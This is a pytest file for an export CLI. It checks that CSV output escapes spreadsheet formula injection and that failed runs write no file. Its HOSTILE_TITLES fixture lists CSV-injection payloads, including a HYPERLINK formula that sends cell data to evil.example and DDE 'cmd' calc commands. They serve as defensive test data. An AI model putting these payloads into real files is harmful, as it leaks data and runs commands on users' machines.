"""``learners export`` under a hostile server: formulas in cells, failures before and during."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from click.testing import CliRunner

from enterprise_async.cli import cli
from enterprise_async.exports import spreadsheet_safe
from enterprise_async.models import LearnerSummary
from tests.hostile.lost_server import LostServer, serving
from tests.openapi_spec import required

CUSTOMER = "4f2ad1b8-9c6e-4c1a-8f0e-3b7d2e5a9c11"
SUMMARY = f"/enterprise/v3/enterprise-customer/{CUSTOMER}/learner-summary"
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def server() -> Iterator[LostServer]:
    with serving() as running:
        yield running


def serve_summary(server: LostServer, records: list[dict[str, Any]], *, failing: int | None = None) -> None:
    """The learner summary in pages of 2 (each record with the fields its model requires), page
    ``failing`` answering 500 every time."""
    records = [{**required(LearnerSummary), **record} for record in records]

    async def summary(request: web.Request) -> web.StreamResponse:
        number = int(request.query.get("page", "1"))
        if number == failing:
            return web.json_response({"detail": "boom"}, status=500)
        following = f"{server.base_url}{SUMMARY}?page={number + 1}" if number * 2 < len(records) else None
        page = {"count": len(records), "next": following, "previous": None}
        return web.json_response(page | {"results": records[(number - 1) * 2 : number * 2]})

    server.routes[("GET", SUMMARY)] = summary


def run_command(server: LostServer, monkeypatch: pytest.MonkeyPatch, *args: str) -> Any:
    for name, value in server.environment.items():
        monkeypatch.setenv(name, value)
    command = ["learners", "export", *args, "--max-retries", "0"]
    return CliRunner().invoke(cli, command, catch_exceptions=False)


def test_cells_a_spreadsheet_would_run_are_escaped_as_owasp_recommends(
    server: LostServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    records = [{"enrollment_id": index, "course_title": title} for index, title in enumerate(HOSTILE_TITLES)]
    serve_summary(server, [*records, {"enrollment_id": 99, "course_title": "-12.50"}])
    ran = run_command(server, monkeypatch, CUSTOMER)
    assert ran.exit_code == 0
    titles = [row["course_title"] for row in csv.DictReader(io.StringIO(ran.stdout, newline=""))]
    assert titles == [f"'{title}" for title in HOSTILE_TITLES] + ["-12.50"]  # a plain number stays


def test_json_lines_keep_the_values_as_sent(server: LostServer, monkeypatch: pytest.MonkeyPatch) -> None:
    serve_summary(server, [{"enrollment_id": 1, "course_title": HOSTILE_TITLES[0]}])
    ran = run_command(server, monkeypatch, CUSTOMER, "--format", "jsonl")
    assert ran.exit_code == 0
    assert HOSTILE_TITLES[0].replace('"', '\\"') in ran.stdout


@pytest.mark.parametrize("text", ["=1", "+1a", "-a", "@a", "\ta", "\ra"])
def test_spreadsheet_safe_escapes_each_trigger(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", "-1", "+2.5", "-0.75e3", "a=b", " =1"])
def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_a_run_failing_mid_way_leaves_no_file(
    server: LostServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    serve_summary(server, [{"enrollment_id": number} for number in range(6)], failing=2)
    out = tmp_path / "learners.csv"
    ran = run_command(server, monkeypatch, CUSTOMER, "--out", str(out))
    assert ran.exit_code == 3  # the listing is incomplete
    assert "IncompleteListingError" in ran.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_run_failing_on_its_first_page_writes_nothing_not_even_a_header(
    server: LostServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    serve_summary(server, [{"enrollment_id": 1}], failing=1)
    ran = run_command(server, monkeypatch, CUSTOMER)
    assert ran.exit_code == 1
    assert ran.stdout == ""


def test_bad_input_is_refused_before_anything_is_written(
    server: LostServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    out = tmp_path / "learners.csv"
    ran = run_command(server, monkeypatch, "not-a-uuid", "--out", str(out))
    assert ran.exit_code == 2
    assert ran.stdout == ""
    assert list(tmp_path.iterdir()) == []
